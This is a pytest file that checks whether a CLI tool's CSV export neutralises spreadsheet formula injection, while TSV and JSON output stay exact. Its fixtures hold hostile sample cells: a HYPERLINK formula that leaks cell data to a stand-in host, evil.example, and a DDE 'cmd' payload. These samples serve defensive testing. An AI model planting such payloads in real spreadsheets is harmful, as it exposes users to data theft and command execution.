"""``--format csv`` against spreadsheet formula injection: a text cell that a spreadsheet would
read as a formula (starting with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return) is written
after a ``'``, as OWASP recommends, while JSON numbers (``-25``, ``-1500.0``) and every other
format, TSV included, keep the exact value."""

from __future__ import annotations

from pathlib import Path

import pytest
from typer.testing import CliRunner

from ccifacts.cli import app
from conftest import minimal, run, write

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


def csv_bytes(*args: str) -> bytes:
    result = CliRunner().invoke(app, list(args), catch_exceptions=False)
    assert (result.exit_code, result.stderr) == (0, "")
    return result.stdout_bytes


@pytest.fixture
def formula_base(tmp_path: Path) -> Path:
    document = minimal()
    document["facts"][0]["label"] = FORMULA
    document["facts"][0]["value"] = -25
    document["facts"][0]["unit"] = "percent"
    document["facts"][0]["baseline"] = {"value": -1.5e3, "label": "@SUM(A1:A9)"}
    document["facts"][1]["label"] = "+1+cmd|' /C calc'!A0"
    document["facts"][1]["yoy_pct"] = -12.5
    document["sectors"][0]["aliases"] = ["-2+3", "air"]
    document["sectors"][1]["name"] = "\t=1+2"
    return write(tmp_path / "formulas.json", document)


def test_csv_writes_formula_text_after_a_quote(formula_base: Path) -> None:
    fields = "id,label,value,baseline.value,baseline.label,yoy_pct"
    assert csv_bytes("list", "--facts", str(formula_base), "-f", "csv", "--fields", fields) == (
        b"id,label,value,baseline.value,baseline.label,yoy_pct\r\n"
        b'aviation.weekly-flights,"\'=HYPERLINK(""http://evil.example/?""&A1,""Click"")",'
        b"-25,-1500.0,'@SUM(A1:A9),\r\n"
        b"finance.settlement,'+1+cmd|' /C calc'!A0,400000000,,,-12.5\r\n"
    )


def test_csv_quotes_text_of_every_record_kind(formula_base: Path) -> None:
    assert csv_bytes(
        "sectors", "--facts", str(formula_base), "-f", "csv", "--fields", "id,name,aliases"
    ) == (b"id,name,aliases\r\naviation,Aviation,'-2+3; air\r\nfinance,'\t=1+2,\r\n")


@pytest.mark.parametrize(
    ("label", "cell"),
    [
        ("=1+2", "'=1+2"),
        ("+1", "'+1"),
        ("-25", "'-25"),  # text that looks like a number is still text
        ("@cmd", "'@cmd"),
        ("\t=1", "'\t=1"),
        ("\r=1", "\\r=1"),  # a carriage return is shown as an escape, so no formula starts
        ("a=1+2", "a=1+2"),
        (" =1", " =1"),
        ("'=1", "'=1"),
    ],
)
def test_csv_cell_of_a_label(tmp_path: Path, label: str, cell: str) -> None:
    document = minimal()
    document["facts"][0]["label"] = label
    base = write(tmp_path / "one.json", document)
    raw = csv_bytes("get", "aviation.weekly-flights", "--facts", str(base), "-f", "csv")
    rows = raw.decode().split("\r\n")
    assert rows[1].split(",")[2].strip('"') == cell


def test_csv_keeps_numbers_exact_in_the_bundled_changes() -> None:
    raw = csv_bytes("changes", "-f", "csv")
    assert raw.split(b"\r\n")[1] == (
        b"logistics.rail-sea-transit-days,before_after,10,7,days,0.7,-30.0,ratio; change_pct"
    )


def test_tsv_and_json_keep_formula_text_exact(formula_base: Path) -> None:
    fields = "id,label,value,baseline.label"
    tsv = run("list", "--facts", str(formula_base), "-f", "tsv", "--fields", fields)
    assert tsv.stdout == (
        "id\tlabel\tvalue\tbaseline.label\n"
        f"aviation.weekly-flights\t{FORMULA}\t-25\t@SUM(A1:A9)\n"
        "finance.settlement\t+1+cmd|' /C calc'!A0\t400000000\t\n"
    )
    listed = run("list", "--facts", str(formula_base), "--json", "--fields", "label")
    assert listed.json() == [{"label": FORMULA}, {"label": "+1+cmd|' /C calc'!A0"}]
